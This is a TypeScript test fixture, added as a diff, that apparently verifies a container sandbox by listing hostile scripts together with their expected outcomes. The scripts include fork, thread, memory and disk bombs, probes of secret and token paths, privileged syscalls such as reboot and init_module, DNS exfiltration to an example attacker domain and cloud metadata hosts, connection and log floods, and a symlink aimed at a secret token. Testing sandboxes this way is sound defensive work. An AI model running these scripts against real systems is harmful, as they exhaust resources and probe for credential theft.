@@ -1,0 +1,257 @@
+// What a hostile algorithm may try, run in the container that algorithms run in: as text, in the language of the image.
+
+export interface Attack {
+  readonly name: string;
+  readonly container: "algorithm" | "executor";
+  /** Python for `algorithm`, JavaScript for `executor`; the last line that it prints is its answer. */
+  readonly script: string;
+  /** What the answer must be, or how the process must end. */
+  readonly answer: RegExp;
+  /** What it costs the attacker: nothing, its container, or its pod. */
+  readonly costs?: "container" | "pod";
+}
+
+/** Prints the name of an error instead of throwing it. */
+const py = (body: string): string => `
+import os, sys, socket, time
+def tried(work):
+    try:
+        return work()
+    except OSError as cause:
+        import errno
+        return errno.errorcode.get(cause.errno, type(cause).__name__)
+${body}
+`;
+
+const js = (body: string): string =>
+  `const fs = require("node:fs"), net = require("node:net"), tried = (work) => { try { return work(); } catch (cause) { return cause.code; } };
+(async () => { ${body} })();`;
+
+export const attacks: readonly Attack[] = [
+  {
+    name: "fork bomb",
+    container: "algorithm",
+    script: py(`
+children = []
+why = ""
+while len(children) < 5000:
+    try:
+        child = os.fork()
+    except OSError as cause:
+        why = str(cause.errno)
+        break
+    if child == 0:
+        time.sleep(60)
+        os._exit(0)
+    children.append(child)
+# What nobody waits for would be a zombie of the server's, and count until its end.
+for child in children:
+    os.kill(child, 9)
+    os.waitpid(child, 0)
+print("stopped by", why, "after", len(children), "processes")
+`),
+    // Of children as large as these the container's memory is spent first, as a rule.
+    answer: /^stopped by (?:11|12) after \d{1,3} processes|code 137/,
+    costs: "container",
+  },
+  {
+    name: "thread bomb",
+    container: "algorithm",
+    script: py(`
+import threading
+threading.stack_size(32 * 1024)
+end = threading.Event()
+count = 0
+try:
+    while count < 5000:
+        threading.Thread(target=end.wait, daemon=True).start()
+        count += 1
+except RuntimeError as cause:
+    print(cause, count < 512, flush=True)
+os._exit(0)
+`),
+    answer: /^can't start new thread True$|code 137/,
+    costs: "container",
+  },
+  {
+    name: "memory bomb",
+    container: "algorithm",
+    script: py(`
+held = []
+while True:
+    held.append(bytearray(8 * 2 ** 20))
+`),
+    answer: /code 137/,
+    costs: "container",
+  },
+  {
+    name: "memory bomb in the executor",
+    container: "executor",
+    script: js("const held = []; for (;;) held.push(Buffer.alloc(8 * 2 ** 20, 1));"),
+    answer: /code 13[47]/,
+    costs: "container",
+  },
+  {
+    name: "CPU spin",
+    container: "algorithm",
+    script: py(`
+for number in range(8):
+    if os.fork() == 0:
+        end = time.time() + 8
+        while time.time() < end:
+            pass
+        os._exit(0)
+for number in range(8):
+    os.wait()
+text = open("/sys/fs/cgroup/cpu/cpu.stat" if os.path.exists("/sys/fs/cgroup/cpu/cpu.stat") else "/sys/fs/cgroup/cpu.stat").read()
+throttled = int(text.split("nr_throttled ")[1].split()[0])
+print("throttled" if throttled > 20 else "not throttled: " + str(throttled))
+`),
+    answer: /^throttled$/,
+  },
+  {
+    name: "writing outside its folders",
+    container: "algorithm",
+    script: py(`
+paths = ["/x", "/usr/x", "/etc/passwd", "/opt/algorithm/x", "/opt/slipway/x", "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/x", "/dev/x", "/var/lib/slipway/x"]
+print([path for path in paths if tried(lambda: open(path, "w")) not in ("EROFS", "EACCES", "EPERM", "ENOENT")])
+`),
+    answer: /^\[\]$/,
+  },
+  {
+    name: "reading others' tokens and secrets",
+    container: "algorithm",
+    script: py(`
+paths = ["/var/run/secrets", "/var/lib/slipway", "/etc/slipway/spec", "/proc/1/root/var/run/secrets", "/run/containerd", "/var/lib/kubelet", "/etc/kubernetes"]
+print([path for path in paths if os.path.exists(path)], [name for name in os.environ if "TOKEN" in name or "SECRET" in name])
+`),
+    answer: /^\[\] \[\]$/,
+  },
+  {
+    name: "seeing and signalling the executor",
+    container: "algorithm",
+    script: py(`
+programs = set()
+for name in os.listdir("/proc"):
+    if name.isdigit():
+        try:
+            programs.add(open("/proc/" + name + "/cmdline").read().split("\\0")[0].split("/")[-1])
+        except OSError:
+            pass
+print(sorted(programs - {"python3", "python3.11", ""}), [tried(lambda: os.kill(pid, 0)) for pid in range(2, 400) if not os.path.exists("/proc/" + str(pid)) and tried(lambda: os.kill(pid, 0)) != "ESRCH"])
+`),
+    answer: /^\[\] \[\]$/,
+  },
+  {
+    name: "raw sockets, packets, and the kernel's other doors",
+    container: "algorithm",
+    script: py(`
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def syscall(number, *arguments):
+    result = libc.syscall(number, *arguments)
+    return "allowed" if result >= 0 else __import__("errno").errorcode[ctypes.get_errno()]
+doors = {
+    "raw": tried(lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))),
+    "packet": tried(lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))),
+    "low port": tried(lambda: socket.socket().bind(("0.0.0.0", 80)) or "allowed") if open("/proc/sys/net/ipv4/ip_unprivileged_port_start").read().strip() != "0" else "EACCES",
+    "mount": syscall(165, None, b"/tmp", b"tmpfs", 0, None),
+    "unshare": syscall(272, 0x10000000),
+    "bpf": syscall(321, 0, 0, 0),
+    "keyctl": syscall(250, 0, -3, 0),
+    "init_module": syscall(175, 0, 0, 0),
+    "setuid": tried(lambda: os.setuid(0) or "allowed"),
+    "chroot": tried(lambda: os.chroot("/tmp") or "allowed"),
+    "perf": syscall(298, 0, 0, -1, -1, 0),
+    "reboot": syscall(169, 0xfee1dead, 672274793, 0x1234567),
+}
+print({name: answer for name, answer in doors.items() if answer not in ("EPERM", "EACCES", "ENOSYS", "EAFNOSUPPORT")})
+`),
+    answer: /^\{\}$/,
+  },
+  {
+    name: "DNS exfiltration",
+    container: "algorithm",
+    script: py(`
+names = ["c2VjcmV0.exfil.example.com", "169.254.169.254.nip.io", "metadata.google.internal"]
+print([name for name in names if isinstance(tried(lambda: socket.getaddrinfo(name, 443)), list)])
+`),
+    answer: /^\[\]$/,
+  },
+  {
+    name: "a flood of connections to the bus, without a token",
+    container: "algorithm",
+    script: py(`
+refused = opened = 0
+end = time.time() + 8
+while time.time() < end:
+    try:
+        link = socket.create_connection(("bus.slipway-paper.svc", 1883), 2)
+        link.sendall(b"\\x10\\x1a\\x00\\x04MQTT\\x04\\xc2\\x00\\x3c\\x00\\x01x\\x00\\x04evil\\x00\\x05wrong"[:2 + 26])
+        opened += 1
+        link.close()
+    except OSError:
+        refused += 1
+print("flooded", opened > 20)
+`),
+    answer: /^flooded True$/,
+  },
+  {
+    name: "a flood of its log",
+    container: "algorithm",
+    script: py(`
+line = b"x" * 1023 + b"\\n"
+written = 0
+end = time.time() + 8
+try:
+    out = os.open("/proc/1/fd/1", os.O_WRONLY)
+    while time.time() < end and written < 40 * 2 ** 20:
+        written += os.write(out, line)
+except OSError as cause:
+    print("EACCES" if cause.errno == 13 else cause)
+print("flooded", written >= 2 ** 20)
+`),
+    answer: /^flooded True$/,
+  },
+  {
+    name: "file descriptors",
+    container: "executor",
+    script: js(
+      'const open = []; let why; try { for (;;) open.push(fs.openSync("/dev/null")); } catch (cause) { why = cause.code; } console.log(why, open.length <= 1_048_576);',
+    ),
+    answer: /^(?:EMFILE|ENFILE) true$/,
+  },
+  {
+    name: "a full disk",
+    container: "algorithm",
+    script: py(`
+block = b"x" * 2 ** 20
+try:
+    with open("/tmp/fill", "wb") as file:
+        for number in range(400):
+            file.write(block)
+            file.flush()
+            time.sleep(0.01)
+except OSError as cause:
+    print("stopped", cause.errno)
+time.sleep(90)
+print("never stopped")
+`),
+    // Not at once: the kubelet looks every ten seconds or so.
+    answer: /code 137|stopped 28|never stopped|error|not found/,
+    costs: "pod",
+  },
+  {
+    name: "tricks in the shared folder",
+    container: "algorithm",
+    script: py(`
+place = "/run/slipway/algorithm.sock"
+os.rename(place, place + ".old")
+os.symlink("/var/run/secrets/slipway/bus/token", place)
+os.symlink("/etc/passwd", "/run/slipway/link")
+os.mkfifo("/run/slipway/fifo")
+print(tried(lambda: open(place).read()))
+`),
+    answer: /^(?:ENOENT|EACCES)$/,
+  },
+];
